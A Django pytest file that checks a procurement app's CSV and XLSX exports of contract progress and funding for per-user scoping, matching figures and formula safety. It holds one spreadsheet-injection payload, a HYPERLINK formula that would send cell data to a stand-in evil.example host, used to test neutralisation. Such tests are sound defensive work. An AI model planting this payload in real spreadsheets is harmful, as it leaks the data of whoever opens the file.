"""Contract progress and funding aggregates through the background export jobs: scoped per
user, formula-safe in CSV and XLSX, and the same figures as the progress page and stats."""

import csv
import io

import pytest
from django.test import TestCase
from django.urls import reverse
from openpyxl import load_workbook

from projects import domain
from projects.models import Contract
from projects.progress import contract_progress
from reporting.models import ExportJob
from tests import factories as f
from tests.projects._support import awarded_contract, days, verified_visit

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def contract(cast):
    bathing = f.ServiceTypeFactory(code="bathing", name="助浴")
    contract = awarded_contract(cast, service_type=bathing, title=EVIL)
    for _ in range(3):
        verified_visit(
            organization=cast.organization, community=cast.community, service_type=bathing
        )
    milestone = domain.milestone_add(
        contract=contract, actor=cast.civil, title="一期", due_on=days(1), amount_fen=30_000
    )
    request = domain.payment_request_submit(
        milestone=milestone, actor=cast.member, amount_fen=30_000
    )
    domain.payment_request_approve(payment_request=request, actor=cast.civil)
    return contract


def _export(client, user, kind, file_format="csv"):
    client.force_login(user)
    data = {"kind": kind, "file_format": file_format}
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("exports:index"), data)
    if file_format == "csv":
        if response.status_code != 200 or "Content-Disposition" not in response:
            return response
        body = b"".join(response.streaming_content).decode("utf-8")
        return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    job = ExportJob.objects.filter(owner=user).latest("pk")
    assert job.status == ExportJob.Status.DONE and job.progress == 100
    download = client.get(reverse("exports:download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_progress_export_equals_the_progress_page_and_is_formula_safe(
    client, cast, contract, file_format
):
    rows = _export(client, cast.civil, "project_progress", file_format)
    header, [row] = rows[0], rows[1:]
    [progress] = contract_progress(contract=contract)
    by_name = dict(zip(header, row, strict=True))
    assert by_name["项目名称"] == "'" + EVIL  # kept, made inert
    assert int(by_name["已核验"]) == progress.delivered == 3
    assert int(by_name["目标数量"]) == progress.target.quantity
    assert int(by_name["按当前速度预计"]) == progress.forecast
    assert (str(by_name["合同金额（元）"]), str(by_name["已支付（元）"])) == ("3000.00", "300.00")


def test_progress_export_scoped_to_own_organization(client, cast, contract):
    assert len(_export(client, cast.member, "project_progress")) == 2
    assert _export(client, cast.other_member, "project_progress")[1:] == []
    assert _export(client, cast.other_street_staff, "project_progress")[1:] == []
    assert len(_export(client, cast.community_staff, "project_progress")) == 2


def test_funds_export_for_staff_only_and_equal_to_stats(client, cast, contract):
    response = _export(client, cast.member, "project_funds")
    assert response.status_code == 200 and response.context["form"].errors["kind"]
    assert not ExportJob.objects.filter(owner=cast.member).exists()

    rows = _export(client, cast.civil, "project_funds", "xlsx")
    header, body = rows[0], rows[1:]
    stats = client.get("/api/v1/stats/projects/").json()["cultivation_by_district_and_category"]
    assert len(body) == len(stats) == 5  # one district, five categories
    for row, figure in zip(body, stats, strict=True):
        cells = dict(zip(header, row, strict=True))
        assert (cells["组织类别"], str(cells["合同金额（元）"]), str(cells["已支付（元）"])) == (
            figure["category_name"],
            figure["committed"],
            figure["paid"],
        )
    assert sum(int(dict(zip(header, r, strict=True))["合同"]) for r in body) == 1
    assert Contract.objects.count() == 1


def test_exports_never_carry_application_documents(client, cast, contract):
    """No export kind lists applications: plans and budget lines stay on the scoped pages."""
    assert not any("application" in kind for kind in ExportJob.Kind.values)
    plan = contract.application.plan
    for kind in ("project_progress", "project_funds"):
        cells = [c for row in _export(client, cast.civil, kind) for c in row]
        assert plan not in cells
